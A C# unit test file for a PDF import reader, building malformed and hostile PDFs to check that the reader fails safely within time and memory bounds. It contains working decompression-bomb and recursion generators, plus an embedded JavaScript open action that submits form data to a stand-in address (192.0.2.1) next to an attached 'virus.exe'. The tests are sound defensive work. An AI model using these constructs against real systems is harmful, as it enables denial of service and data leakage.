using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using FollowUp.Core.Imports;
using FollowUp.Documents;
using Xunit;
using static FollowUp.Core.Tests.Documents.PdfIn.PdfObjects;

namespace FollowUp.Core.Tests.Documents.PdfIn;

/// <summary>Files that are broken, enormous or made to do harm.</summary>
public sealed class HostilePdfTests
{
    private static readonly Dictionary<string, (Func<byte[]> Make, ReadFailure? Failure)> Refused = new()
    {
        ["cut off after its beginning"] = (() => Sample()[..300], ReadFailure.PdfDamaged),
        ["nothing but a name"] = (() => "%PDF-1.7\n"u8.ToArray(), ReadFailure.PdfDamaged),
        ["a text under the name"] = (() => Latin("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("Uppföljning av året. ", 200))), ReadFailure.PdfDamaged),
        ["a zip file after the name"] = (() => [.. "%PDF-1.7\n"u8, .. Zip()], ReadFailure.PdfDamaged),
        ["scanned"] = (Scanned, ReadFailure.PdfScanned),
        ["empty page"] = (() => OnePage(""), ReadFailure.Empty),
        ["password"] = (Protected, ReadFailure.PdfProtected),
        ["too many pages"] = (() => Pages(2_500), ReadFailure.TooLong),
        ["a stream that inflates to a gigabyte"] = (() => Content(Zeros(1_000_000_000), "/Filter /FlateDecode"), ReadFailure.UnpacksTooLarge),
        ["a stream packed twice"] = (() => Content(Pack(Zeros(1_000_000_000)), "/Filter [/FlateDecode /FlateDecode]"), ReadFailure.UnpacksTooLarge),
        ["a font that inflates"] = (() => Font(Zeros(400_000_000)), null),
        ["runs"] = (() => Content(Blanks(300_000), "/Filter /RunLengthDecode"), ReadFailure.UnpacksTooLarge),
        ["LZW"] = (() => Content(Lzw(60_000), "/Filter /LZWDecode"), ReadFailure.UnpacksTooLarge),
        ["a row as wide as the world"] = (() => Content(Pack(new byte[100]), "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 /Colors 32 >>"), ReadFailure.UnpacksTooLarge),
        ["forms in forms, each twice"] = (() => Forms(40), ReadFailure.UnpacksTooLarge),
        ["four thousand million characters in a font"] = (() => Map("1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"), null),
        ["much text"] = (() => Content(Pack(Latin(Much())), "/Filter /FlateDecode"), ReadFailure.TooLong),
    };

    private static readonly Dictionary<string, Func<byte[]>> Odd = new()
    {
        ["pages that are their own parents"] = () => Tree("<< /Type /Pages /Kids [{0} 0 R {0} 0 R] /Count 2 >>"),
        ["two thousand million pages, it says"] = () => Tree("<< /Type /Pages /Kids [] /Count 2000000000 >>"),
        ["arrays in arrays"] = () => OnePage("", $"/X {new string('[', 200_000)}{new string(']', 200_000)}"),
        ["arrays in arrays on the page"] = () => OnePage(new string('[', 300_000) + "(a) Tj"),
        ["dictionaries in dictionaries"] = () => OnePage("", string.Concat(Enumerable.Repeat("/X << ", 50_000)) + string.Concat(Enumerable.Repeat(" >> ", 50_000))),
        ["brackets in brackets"] = () => OnePage($"BT /F1 9 Tf ({new string('(', 100_000)}{new string(')', 100_000)}) Tj ET"),
        ["states in states"] = () => OnePage(string.Concat(Enumerable.Repeat("q ", 300_000))),
        ["a reference to itself"] = Loop,
        ["an object stream in itself"] = Inside,
        ["a form of itself"] = () => Forms(0),
        ["tables of places in a ring"] = () => Latin(Encoding.Latin1.GetString(Sample()).Replace("/Root", "/Prev 20 /Root", StringComparison.Ordinal)),
        ["widths without end"] = Widths,
        ["a size without end"] = () => OnePage("BT /F1 1e308 Tf 1e308 0 0 1e308 1e308 1e308 Tm (a) Tj ET 1e308 1e308 m -1e308 1e308 l S"),
        ["a page of no size"] = () => Latin(Encoding.Latin1.GetString(Sample()).Replace("[0 0 595 842]", "[9 9 9 9]    ", StringComparison.Ordinal)),
        ["ten thousand lines"] = () => OnePage(string.Concat(Enumerable.Range(0, 10_000).Select(i => FormattableString.Invariant($"{i % 100 * 5} 0 m {i % 100 * 5} 800 l S 0 {i % 160 * 5} m 500 {i % 160 * 5} l S\n"))) + PdfDocumentReaderTests.Minimal),
        ["marks without end"] = () => OnePage(string.Concat(Enumerable.Repeat("/Artifact << /Type /Pagination >> BDC ", 20_000)) + PdfDocumentReaderTests.Minimal),
    };

    public static TheoryData<string> Names => [.. Refused.Keys];

    public static TheoryData<string> OddNames => [.. Odd.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task Read_FileThatCannotBe_SaysWhyInBoundedTimeAndMemory(string what)
    {
        var content = Refused[what].Make();

        var result = await MeasuredAsync(content);

        // A font that is broken is passed over: what text there is is all that is read.
        if (Refused[what].Failure is { } failure) AssertRefused(failure, result);
        Assert.True((result.Document is null) != (result.Failure is null));
    }

    [Theory]
    [MemberData(nameof(OddNames))]
    public async Task Read_FileWithoutSense_EndsInBoundedTimeAndMemory(string what)
    {
        var result = await MeasuredAsync(Odd[what]());

        Assert.True((result.Document is null) != (result.Failure is null));
    }

    [Fact]
    public async Task Read_HundredMegabytes_AreReadNoFurtherThanTheyMay()
    {
        // Twenty megabytes of packed pages that inflate to much more than a hundred.
        var objects = new PdfObjects();
        var pages = objects.Reserve();
        var kids = new StringBuilder();
        var content = Pack(Latin(string.Concat(Enumerable.Range(0, 400_000).Select(i => $"{i} {i * 7 % 1000} m\n"))));
        for (var i = 0; i < 60; i++) kids.Append(CultureInfo.InvariantCulture, $"{objects.Add($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] /Contents {objects.AddStream(content, "/Filter /FlateDecode")} 0 R >>")} 0 R ");
        objects.Set(pages, $"<< /Type /Pages /Kids [{kids}] /Count 60 >>");

        AssertRefused(ReadFailure.UnpacksTooLarge, await MeasuredAsync(objects.Build(objects.Add($"<< /Type /Catalog /Pages {pages} 0 R >>"))));
    }

    [Fact]
    public void Read_ScriptsFilesAndAddresses_AreLeftAlone()
    {
        // The address answers nobody: a reader that asked it would fail or wait.
        var objects = new PdfObjects();
        var script = objects.Add("<< /S /JavaScript /JS (app.alert\\('hej'\\); this.submitForm\\('http://192.0.2.1/'\\)) >>");
        var file = objects.AddStream("MZ not to be run"u8.ToArray(), "/Type /EmbeddedFile");
        var spec = objects.Add($"<< /Type /Filespec /F (virus.exe) /EF << /F {file} 0 R >> >>");
        var stream = objects.AddStream(Latin(PdfDocumentReaderTests.Minimal));
        var pages = objects.Reserve();
        var page = objects.Add($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >> >> >> /AA << /O {script} 0 R >> /Annots [<< /Subtype /FileAttachment /FS {spec} 0 R /Rect [0 0 1 1] >>] >>");
        objects.Set(pages, $"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>");
        var root = objects.Add($"<< /Type /Catalog /Pages {pages} 0 R /OpenAction {script} 0 R /Names << /JavaScript << /Names [(a) {script} 0 R] >> /EmbeddedFiles << /Names [(virus.exe) {spec} 0 R] >> >> >>");
        var clock = Stopwatch.StartNew();

        var activity = Assert.Single(PdfDocumentReaderTests.Read(objects.Build(root)).Activities);

        Assert.Equal(("Namn", "Vi läser.", "Bra."), (activity.Title, activity.FollowUp, activity.Analysis));
        Assert.True(clock.Elapsed.TotalSeconds < 10);
    }

    [Fact]
    public async Task Read_Cancelled_Ends()
    {
        using var cancel = new CancellationTokenSource();
        await cancel.CancelAsync();
        Assert.ThrowsAny<OperationCanceledException>(() => DocumentReader.Read(Sample(), cancel.Token));
    }

    /// <summary>What holds or unpacks to much may meet the bound of time or of memory first, on a slow machine.</summary>
    private static void AssertRefused(ReadFailure failure, ReadResult result)
    {
        if (failure is ReadFailure.UnpacksTooLarge or ReadFailure.TooLong && result.Failure == ReadFailure.PdfTooHeavy) return;
        Assert.Equal(failure, result.Failure);
    }

    private static async Task<ReadResult> MeasuredAsync(byte[] content)
    {
        // The process has a bound of memory, and a time.
        using var process = ReadingProcess.Begin();
        var clock = Stopwatch.StartNew();
        var result = await process.ReadAsync(content);
        Assert.True(clock.Elapsed.TotalSeconds < 45, $"{clock.Elapsed.TotalSeconds:0.0} s");
        return result;
    }

    internal static byte[] Sample() => OnePage(PdfDocumentReaderTests.Minimal);

    private static byte[] Content(byte[] content, string entries)
    {
        var objects = new PdfObjects();
        var pages = objects.Reserve();
        var page = objects.Add($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] /Contents {objects.AddStream(content, entries)} 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Courier >> >> >> >>");
        objects.Set(pages, $"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>");
        return objects.Build(objects.Add($"<< /Type /Catalog /Pages {pages} 0 R >>"));
    }

    private static byte[] Zeros(int length)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var block = new byte[1_000_000];
            Array.Fill(block, (byte)' ');
            for (var i = 0; i < length / block.Length; i++) zlib.Write(block);
        }

        return packed.ToArray();
    }

    /// <summary>Runs of 257 - 129 = 128 blanks each.</summary>
    private static byte[] Blanks(int runs) => [.. Enumerable.Range(0, runs * 2).Select(i => i % 2 == 0 ? (byte)129 : (byte)' ')];

    /// <summary>Codes of which each is the one before and a byte more.</summary>
    private static byte[] Lzw(int codes)
    {
        var bits = new List<bool>();
        var (next, width, first) = (258, 9, true);
        Write(256);
        for (var i = 0; i < codes; i++)
        {
            if (next >= 4_094)
            {
                // The longest there is, over and over.
                Write(4_093);
                continue;
            }

            Write(first ? ' ' : next);
            if (!first) next++;
            first = false;
            width = next + 1 >= 2_048 ? 12 : next + 1 >= 1_024 ? 11 : next + 1 >= 512 ? 10 : 9;
        }

        return [.. bits.Chunk(8).Select(eight => (byte)eight.Select((bit, at) => bit ? 128 >> at : 0).Sum())];

        void Write(int code)
        {
            for (var at = width - 1; at >= 0; at--) bits.Add((code >> at & 1) == 1);
        }
    }

    private static string Much()
    {
        var text = new StringBuilder("BT /F1 10 Tf\n");
        for (var i = 0; i < 110_000; i++) text.Append("1 0 0 1 70 700 Tm (").Append('x', 40).Append(") Tj\n");
        return text.Append("ET").ToString();
    }

    private static byte[] Scanned()
    {
        var objects = new PdfObjects();
        var image = objects.AddStream(new byte[300], "/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8");
        return OnePage("q 595 0 0 842 0 0 cm /Im Do Q", resources: $"/XObject << /Im {image} 0 R >>", objects: objects);
    }

    /// <summary>The dictionary of a file with a password, whose key fits nothing.</summary>
    private static byte[] Protected() => Latin(Encoding.Latin1.GetString(Sample()).Replace("/Root",
        $"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <{new string('A', 64)}> /U <{new string('B', 64)}> >> /ID [<{new string('C', 32)}> <{new string('C', 32)}>] /Root", StringComparison.Ordinal));

    private static byte[] Pages(int count)
    {
        var objects = new PdfObjects();
        var pages = objects.Reserve();
        var kids = string.Join(' ', Enumerable.Range(0, count).Select(_ => $"{objects.Add($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] >>")} 0 R"));
        objects.Set(pages, $"<< /Type /Pages /Kids [{kids}] /Count {count} >>");
        return objects.Build(objects.Add($"<< /Type /Catalog /Pages {pages} 0 R >>"));
    }

    private static byte[] Tree(string body)
    {
        var objects = new PdfObjects();
        var pages = objects.Reserve();
        objects.Set(pages, string.Format(CultureInfo.InvariantCulture, body, pages));
        return objects.Build(objects.Add($"<< /Type /Catalog /Pages {pages} 0 R >>"));
    }

    private static byte[] Forms(int depth)
    {
        var objects = new PdfObjects();
        var numbers = Enumerable.Range(0, depth + 1).Select(_ => objects.Reserve()).ToList();
        for (var i = 0; i <= depth; i++)
        {
            var next = numbers[Math.Min(i + 1, depth)];
            const string content = "/A Do /A Do ";
            objects.Set(numbers[i], $"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length {content.Length} /Resources << /XObject << /A {next} 0 R >> >> >>\nstream\n{content}\nendstream");
        }

        return OnePage("/A Do", resources: $"/XObject << /A {numbers[0]} 0 R >>", objects: objects);
    }

    private static byte[] Loop()
    {
        var objects = new PdfObjects();
        var (one, other) = (objects.Reserve(), objects.Reserve());
        objects.Set(one, $"{other} 0 R");
        objects.Set(other, $"{one} 0 R");
        return OnePage(PdfDocumentReaderTests.Minimal, $"/Rotate {one} 0 R /Annots {other} 0 R /CropBox {one} 0 R", objects: objects);
    }

    private static byte[] Inside()
    {
        var objects = new PdfObjects();
        var stream = objects.AddStream("1 0 << /Type /ObjStm >>"u8.ToArray(), "/Type /ObjStm /N 1000000 /First 4 /Extends 1 0 R");
        return OnePage(PdfDocumentReaderTests.Minimal, $"/X {stream} 0 R", objects: objects);
    }

    private static byte[] Font(byte[] packed)
    {
        var objects = new PdfObjects();
        var program = objects.AddStream(packed, "/Filter /FlateDecode /Length1 400000000");
        return OnePage("BT /F2 10 Tf 70 700 Td (Text) Tj ET", fonts: $"/F2 << /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor << /Type /FontDescriptor /FontName /X /Flags 32 /FontFile2 {program} 0 R >> >>", objects: objects);
    }

    private static byte[] Map(string ranges) => Composite("/W [1 [500]]", ranges);

    private static byte[] Widths() => Composite("/W [0 2000000000 500]", "1 beginbfchar <0001> <0041> endbfchar");

    private static byte[] Composite(string widths, string ranges)
    {
        var objects = new PdfObjects();
        var map = objects.AddPacked(Latin($"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <0000> <FFFF> endcodespacerange {ranges} endcmap end end"));
        var stream = objects.AddStream("BT /F2 10 Tf 70 700 Td <00010001> Tj ET"u8.ToArray());
        var font = objects.Add($"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode {map} 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> {widths} /FontDescriptor << /Type /FontDescriptor /FontName /X /Flags 4 >> >>] >>");
        var pages = objects.Reserve();
        var page = objects.Add($"<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] /Contents {stream} 0 R /Resources << /Font << /F2 {font} 0 R >> >> >>");
        objects.Set(pages, $"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>");
        return objects.Build(objects.Add($"<< /Type /Catalog /Pages {pages} 0 R >>"));
    }

    private static byte[] Zip()
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true)) zip.CreateEntry("a").Open().Dispose();
        return file.ToArray();
    }
}
